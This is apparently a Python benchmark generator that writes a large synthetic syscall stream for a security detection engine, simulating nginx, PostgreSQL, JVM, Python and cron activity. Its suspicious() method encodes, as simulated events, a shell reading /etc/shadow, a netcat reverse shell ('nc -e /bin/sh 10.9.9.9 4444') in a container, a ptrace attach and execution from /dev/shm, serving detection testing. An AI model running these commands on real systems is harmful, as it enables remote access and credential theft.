#!/usr/bin/env python3
"""Write a large, realistic syscall stream in falconet's capture format (schemas/capture.md).

The stream is a busy host's mix, state-consistent from a snapshot: nginx workers, PostgreSQL
backends, a multi-threaded JVM service, Python workers (some in containers), sshd and an
interactive shell, cron spawning short-lived commands. Most events are the syscalls that
dominate such hosts (futex, epoll_wait, read/write, recvfrom/sendto, poll, mmap, fstat...);
files are opened, read and closed; sockets are created, connected, accepted and closed; processes
are cloned, exec'd and exit; a small fraction are the behaviours upstream rules detect (a shell
reading /etc/shadow, a netcat reverse shell in a container, ptrace attach, a binary dropped and run
from /dev/shm...).

    python bench/gen_syscall_stream.py OUT.fncap[.gz] [--events 10000000] [--seed 1]

Prints the mix it wrote. Deterministic for a given seed.
"""

from __future__ import annotations

import argparse
import ipaddress
import random
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from engine.sources.syscall.capture import CaptureWriter, encode_params
from engine.sources.syscall.eventtable import EVENT_INFO, newest_code
from engine.sources.syscall.params import AF_INET, SockTuple
from engine.sources.syscall.state import (
    FD_FILE,
    FD_IPV4,
    FdInfo,
    FdTable,
    FsState,
    ThreadInfo,
    UserInfo,
)

START_NS = 1_764_000_000_000_000_000
CONTAINER = "9f2c4b7a1e3d" + "0" * 52
O_RDONLY, O_WRONLY, O_CREAT, O_CLOEXEC, O_TRUNC = 1, 2, 4, 4096, 256
HOST_IP = ipaddress.ip_address("10.0.3.15")
CLONE_THREAD_FLAGS = (1 << 13) | 1 | 2 | (1 << 15)  # THREAD | FILES | FS | VM

# Event weights (per 100 events) of the steady-state mix; compound activities below add theirs.
STEADY_MIX = {
    "futex": 16.0,
    "epoll_wait": 10.0,
    "read": 13.0,
    "write": 9.0,
    "recvfrom": 6.0,
    "sendto": 5.0,
    "poll": 3.0,
    "nanosleep": 3.0,
    "mmap": 3.0,
    "munmap": 2.0,
    "fstat": 4.0,
    "lseek": 2.0,
    "ioctl": 2.0,
    "writev": 2.0,
    "readv": 1.0,
    "sendmsg": 1.0,
    "recvmsg": 2.0,
    "select": 1.0,
    "getdents64": 1.0,
    "brk": 1.0,
}
ACTIVITY_MIX = {  # activity: weight (each emits several events)
    "file_io": 1.4,  # openat + read + close
    "outbound": 0.08,  # socket + connect + sendto + recvfrom + close
    "inbound": 0.08,  # accept4 + recvfrom + sendto + close
    "spawn": 0.015,  # clone x2 + execve + openat + read + close + procexit
    "suspicious": 0.0005,
}
FILES = (
    "/var/lib/postgresql/14/main/base/16384/2619",
    "/var/lib/postgresql/14/main/pg_wal/000000010000000000000042",
    "/usr/share/nginx/html/index.html",
    "/etc/nginx/mime.types",
    "/srv/app/static/app.js",
    "/proc/self/stat",
    "/sys/fs/cgroup/cpu.max",
    "/etc/localtime",
    "/etc/hosts",
    "/usr/lib/python3.11/json/__init__.py",
    "/tmp/upload-17.part",
)
COMMANDS = (
    ("/bin/sh", "sh", ["-c", "/usr/lib/sysstat/sa1 1 1"]),
    ("/usr/bin/ps", "ps", ["aux"]),
    ("/usr/bin/curl", "curl", ["-s", "http://127.0.0.1:8080/health"]),
    ("/usr/bin/logrotate", "logrotate", ["/etc/logrotate.conf"]),
    ("/usr/bin/git", "git", ["fetch", "--quiet"]),
)


@dataclass
class Proc:
    tid: int
    pid: int
    comm: str
    exe: str
    sockets: list[int] = field(default_factory=list)
    files: list[int] = field(default_factory=list)
    container: bool = False
    next_fd: int = 64


class Encoder:
    """Encodes events once per distinct parameter set (the stream repeats them a lot)."""

    def __init__(self) -> None:
        self.cache: dict[Any, tuple[int, bytes]] = {}

    def __call__(self, name: str, /, **params: Any) -> tuple[int, bytes]:
        key = (name, tuple(params.items()))
        hit = self.cache.get(key)
        if hit is None:
            code = newest_code(name, False) or newest_code(name, True)
            assert code is not None, name
            hit = (code, encode_params(EVENT_INFO[code], params))
            if len(self.cache) < 200_000:
                self.cache[key] = hit
        return hit


def build_host(rng: random.Random) -> tuple[list[Proc], list[ThreadInfo]]:
    procs: list[Proc] = []
    threads: list[ThreadInfo] = []
    next_pid = [1000]

    def add(comm: str, exe: str, args: list[str], ptid: int, container: bool = False,
            threads_n: int = 1, uid: int = 0, tty: int = 0) -> None:  # fmt: skip
        pid = next_pid[0]
        next_pid[0] += threads_n + 1
        cgroups = (f"cpu=/docker/{CONTAINER}",) if container else ("cpu=/system.slice",)
        main = ThreadInfo(
            tid=pid, pid=pid, ptid=ptid, sid=pid, vpgid=pid, comm=comm, exe=exe, exepath=exe,
            args=tuple(args), uid=uid, gid=uid, loginuid=1000 if tty else 0xFFFFFFFF, tty=tty,
            clone_ts=START_NS - 3_600_000_000_000, cgroups=cgroups, complete=True,
            fs=FsState("/"), fds=FdTable(),
        )  # fmt: skip
        proc = Proc(pid, pid, comm, exe, container=container)
        for fd in range(3, 8):
            main.fds[fd] = FdInfo(num=fd, type=FD_FILE, name=rng.choice(FILES))
            proc.files.append(fd)
        for fd in range(8, 24):
            peer = ipaddress.ip_address(f"10.0.{rng.randint(0, 9)}.{rng.randint(2, 250)}")
            main.fds[fd] = FdInfo(
                num=fd, type=FD_IPV4, l4proto="tcp", cip=peer, cport=rng.randint(30000, 60000),
                sip=HOST_IP, sport=443, is_server=True, connected=True,
                name=f"{peer}:{rng.randint(30000, 60000)}->{HOST_IP}:443",
            )  # fmt: skip
            proc.sockets.append(fd)
        threads.append(main)
        procs.append(proc)
        for offset in range(1, threads_n):
            tid = pid + offset
            worker = ThreadInfo(
                tid=tid, pid=pid, ptid=ptid, sid=pid, vpgid=pid, comm=comm, exe=exe,
                exepath=exe, args=tuple(args), uid=uid, gid=uid, cgroups=cgroups,
                clone_ts=main.clone_ts, complete=True, fs=main.fs, fds=main.fds,
            )  # fmt: skip
            threads.append(worker)
            procs.append(Proc(tid, pid, comm, exe, proc.sockets, proc.files, container))

    systemd = "/usr/lib/systemd/systemd"
    init = ThreadInfo(tid=1, pid=1, ptid=0, comm="systemd", exe="/sbin/init", exepath=systemd,
                      complete=True, fs=FsState("/"))  # fmt: skip
    threads.append(init)
    for _ in range(16):
        add("nginx", "nginx: worker process", [], 1, uid=33)
    for _ in range(20):
        add("postgres", "postgres: app appdb", [], 1, uid=113)
    add("java", "/usr/bin/java", ["-jar", "/srv/app/service.jar"], 1, threads_n=40, uid=1001)
    for _ in range(10):
        add("python3", "python3", ["/srv/worker.py"], 1, container=True, threads_n=4)
    add("sshd", "/usr/sbin/sshd", ["-D"], 1)
    add("bash", "-bash", [], procs[-1].pid, uid=1000, tty=34816)
    add("cron", "/usr/sbin/cron", ["-f"], 1)
    return procs, threads


class Stream:
    def __init__(self, writer: CaptureWriter, rng: random.Random, procs: list[Proc]) -> None:
        self.writer = writer
        self.rng = rng
        self.procs = procs
        self.encode = Encoder()
        self.ts = START_NS
        self.count = 0
        self.mix: Counter[str] = Counter()
        self.next_pid = 200_000
        self.cron = next(p for p in procs if p.comm == "cron")
        self.shell = next(p for p in procs if p.comm == "bash")
        self.container_proc = next(p for p in procs if p.container)

    def emit(self, tid: int, name: str, /, **params: Any) -> None:
        code, data = self.encode(name, **params)
        self.ts += self.rng.randint(200, 3000)
        self.writer.write(code, self.ts, tid, data)
        self.count += 1
        self.mix[name] += 1

    # -- steady state ---------------------------------------------------------------------------
    def steady(self, name: str) -> None:
        rng, proc = self.rng, self.rng.choice(self.procs)
        tid = proc.tid
        fd = rng.choice(proc.sockets if name in ("recvfrom", "sendto", "sendmsg", "recvmsg")
                        else proc.files + proc.sockets)  # fmt: skip
        size = rng.choice((64, 512, 4096))
        data = b"GET / HTTP/1.1\r\nHost: app\r\n" if name.startswith(("recv", "read")) else b"ok"
        if name == "futex":
            self.emit(tid, name, res=0, addr=0x7F00_0000 + rng.randint(0, 64) * 64, op=129, val=1)
        elif name == "epoll_wait":
            self.emit(tid, name, res=rng.randint(0, 4), maxevents=512)
        elif name in ("read", "write", "writev"):
            self.emit(tid, name, res=size, data=data, fd=fd, size=size)
        elif name == "readv":
            self.emit(tid, name, res=size, size=size, data=data, fd=fd)
        elif name == "recvfrom":
            self.emit(tid, name, res=size, data=data, tuple=None, fd=fd, size=size)
        elif name in ("sendto", "sendmsg"):
            self.emit(tid, name, res=size, data=data, fd=fd, size=size, tuple=None)
        elif name == "recvmsg":
            self.emit(tid, name, res=size, size=size, data=data, tuple=None, msgcontrol=b"", fd=fd)
        elif name == "poll":
            self.emit(tid, name, res=1, fds=((fd, 1),), timeout=1000)
        elif name == "nanosleep":
            self.emit(tid, name, res=0, interval=10_000_000)
        elif name == "mmap":
            self.emit(tid, name, res=0x7F00_0000, vm_size=90000, vm_rss=20000, vm_swap=0,
                      addr=0, length=1 << 20, prot=3, flags=34, fd=-1, offset=0)  # fmt: skip
        elif name == "munmap":
            self.emit(tid, name, res=0, vm_size=90000, vm_rss=20000, vm_swap=0,
                      addr=0x7F00_0000, length=1 << 20)  # fmt: skip
        elif name in ("fstat", "getdents64"):
            self.emit(tid, name, res=0, fd=fd)
        elif name == "lseek":
            self.emit(tid, name, res=0, fd=fd, offset=0, whence=0)
        elif name == "ioctl":
            self.emit(tid, name, res=0, fd=fd, request=0x5401, argument=0)
        elif name == "select":
            self.emit(tid, name, res=1)
        elif name == "brk":
            self.emit(tid, name, res=0x5600_0000, vm_size=90000, vm_rss=20000, vm_swap=0, addr=0)

    # -- compound activities --------------------------------------------------------------------
    def file_io(self) -> None:
        rng, proc = self.rng, self.rng.choice(self.procs)
        fd = proc.next_fd
        path = rng.choice(FILES)
        self.emit(proc.tid, "openat", fd=fd, dirfd=-100, name=path, flags=O_RDONLY | O_CLOEXEC,
                  mode=0, dev=2049, ino=rng.randint(1000, 1100))  # fmt: skip
        self.emit(proc.tid, "read", res=512, data=b"data", fd=fd, size=4096)
        self.emit(proc.tid, "close", res=0, fd=fd)

    def outbound(self) -> None:
        proc = self.rng.choice(self.procs)
        fd = proc.next_fd + 1
        peer = ipaddress.ip_address(f"10.0.8.{self.rng.randint(2, 40)}")
        port = self.rng.choice((5432, 6379, 443, 8080))
        tup = SockTuple(AF_INET, HOST_IP, self.rng.randint(32768, 60999), peer, port)
        self.emit(proc.tid, "socket", fd=fd, domain=AF_INET, type=1, proto=0, flags=0)
        self.emit(proc.tid, "connect", res=0, tuple=tup, fd=fd, addr=None)
        self.emit(proc.tid, "sendto", res=64, data=b"PING", fd=fd, size=64, tuple=None)
        self.emit(proc.tid, "recvfrom", res=64, data=b"PONG", tuple=None, fd=fd, size=64)
        self.emit(proc.tid, "close", res=0, fd=fd)

    def inbound(self) -> None:
        proc = self.rng.choice([p for p in self.procs[:40]])
        fd = proc.next_fd + 2
        client = ipaddress.ip_address(
            f"192.168.{self.rng.randint(0, 9)}.{self.rng.randint(2, 250)}"
        )
        tup = SockTuple(AF_INET, client, self.rng.randint(32768, 60999), HOST_IP, 443)
        self.emit(proc.tid, "accept4", fd=fd, tuple=tup, queuepct=0, queuelen=0, queuemax=511,
                  flags=0)  # fmt: skip
        self.emit(proc.tid, "recvfrom", res=512, data=b"GET /", tuple=None, fd=fd, size=4096)
        self.emit(proc.tid, "sendto", res=2048, data=b"HTTP/1.1 200", fd=fd, size=2048, tuple=None)
        self.emit(proc.tid, "close", res=0, fd=fd)

    def spawn(self, parent: Proc, exe: str, comm: str, args: list[str], container: bool = False,
              then: Any = None) -> None:  # fmt: skip
        child = self.next_pid
        self.next_pid += 1
        cgroups = f"cpu=/docker/{CONTAINER}\0".encode() if container else b"cpu=/system.slice\0"
        self.emit(parent.tid, "clone", res=child, exe=parent.exe, args=b"", tid=parent.tid,
                  pid=parent.pid, ptid=1, cwd="/", fdlimit=1024, pgft_maj=0, pgft_min=0,
                  vm_size=1000, vm_rss=100, vm_swap=0, comm=parent.comm, cgroups=cgroups,
                  flags=0, uid=0, gid=0, vtid=child, vpid=child)  # fmt: skip
        self.emit(child, "execve", res=0, exe=exe, args="\0".join(args).encode() + b"\0",
                  tid=child, pid=child, ptid=parent.pid, cwd="/root", fdlimit=1024,
                  pgft_maj=0, pgft_min=0, vm_size=1000, vm_rss=100, vm_swap=0, comm=comm,
                  cgroups=cgroups, env=b"PATH=/usr/bin:/bin\0", tty=0, vpgid=child,
                  loginuid=0xFFFFFFFF, flags=0, cap_inheritable=0, cap_permitted=0,
                  cap_effective=0, exe_ino=4242, exe_ino_ctime=START_NS - 10**15,
                  exe_ino_mtime=START_NS - 10**15, uid=0, trusted_exepath=exe, pgid=child,
                  gid=0, filename=exe)  # fmt: skip
        if then is not None:
            then(child)
        else:
            self.emit(child, "openat", fd=3, dirfd=-100, name="/etc/ld.so.cache",
                      flags=O_RDONLY | O_CLOEXEC, mode=0, dev=2049, ino=77)  # fmt: skip
            self.emit(child, "read", res=512, data=b"ld", fd=3, size=512)
            self.emit(child, "close", res=0, fd=3)
        self.emit(child, "procexit", status=0, ret=0, sig=0, core=0, reaper_tid=1)

    def cron_job(self) -> None:
        exe, comm, args = self.rng.choice(COMMANDS)
        self.spawn(self.cron, exe, comm, args)

    def suspicious(self) -> None:
        kind = self.rng.randrange(4)
        if kind == 0:  # Read sensitive file untrusted

            def read_shadow(tid: int) -> None:
                self.emit(tid, "openat", fd=3, dirfd=-100, name="/etc/shadow",
                          flags=O_RDONLY, mode=0, dev=2049, ino=99)  # fmt: skip
                self.emit(tid, "close", res=0, fd=3)

            self.spawn(self.shell, "/usr/bin/cat", "cat", ["/etc/shadow"], then=read_shadow)
        elif kind == 1:  # Netcat Remote Code Execution in Container
            args = ["-e", "/bin/sh", "10.9.9.9", "4444"]
            self.spawn(self.container_proc, "/usr/bin/nc", "nc", args, container=True)
        elif kind == 2:  # PTRACE attached to process
            # The drivers report requests as PPM codes: PPM_PTRACE_ATTACH is 11.
            self.emit(self.shell.tid, "ptrace", res=0, addr=b"", data=b"", request=11,
                      pid=self.procs[5].pid)  # fmt: skip
        else:  # Execution from /dev/shm
            self.spawn(self.shell, "/dev/shm/x", "x", [])


def generate(path: Path, events: int, seed: int) -> tuple[int, Counter[str], float]:
    rng = random.Random(seed)
    procs, threads = build_host(rng)
    started = time.perf_counter()
    with CaptureWriter(path) as writer:
        writer.write_snapshot(
            threads,
            users=[
                UserInfo(0, 0, "root", "/root", "/bin/bash"),
                UserInfo(1000, 1000, "dev", "/home/dev", "/bin/bash"),
            ],
            machine={"hostname": "busy-host", "num_cpus": 16},
        )
        stream = Stream(writer, rng, procs)
        names = list(STEADY_MIX) + list(ACTIVITY_MIX)
        weights = list(STEADY_MIX.values()) + list(ACTIVITY_MIX.values())
        compound = {
            "file_io": stream.file_io,
            "outbound": stream.outbound,
            "inbound": stream.inbound,
            "spawn": stream.cron_job,
            "suspicious": stream.suspicious,
        }
        while stream.count < events:
            for name in rng.choices(names, weights, k=10_000):
                action = compound.get(name)
                if action is not None:
                    action()
                else:
                    stream.steady(name)
    return stream.count, stream.mix, time.perf_counter() - started


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--events", type=int, default=10_000_000)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args(argv)
    count, mix, seconds = generate(args.out, args.events, args.seed)
    size = args.out.stat().st_size
    print(f"wrote {count:,} events to {args.out} ({size / 1e6:.1f} MB, {seconds:.1f} s)")
    for name, n in mix.most_common():
        print(f"  {name:12} {n:>11,}  {100 * n / count:6.2f}%")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
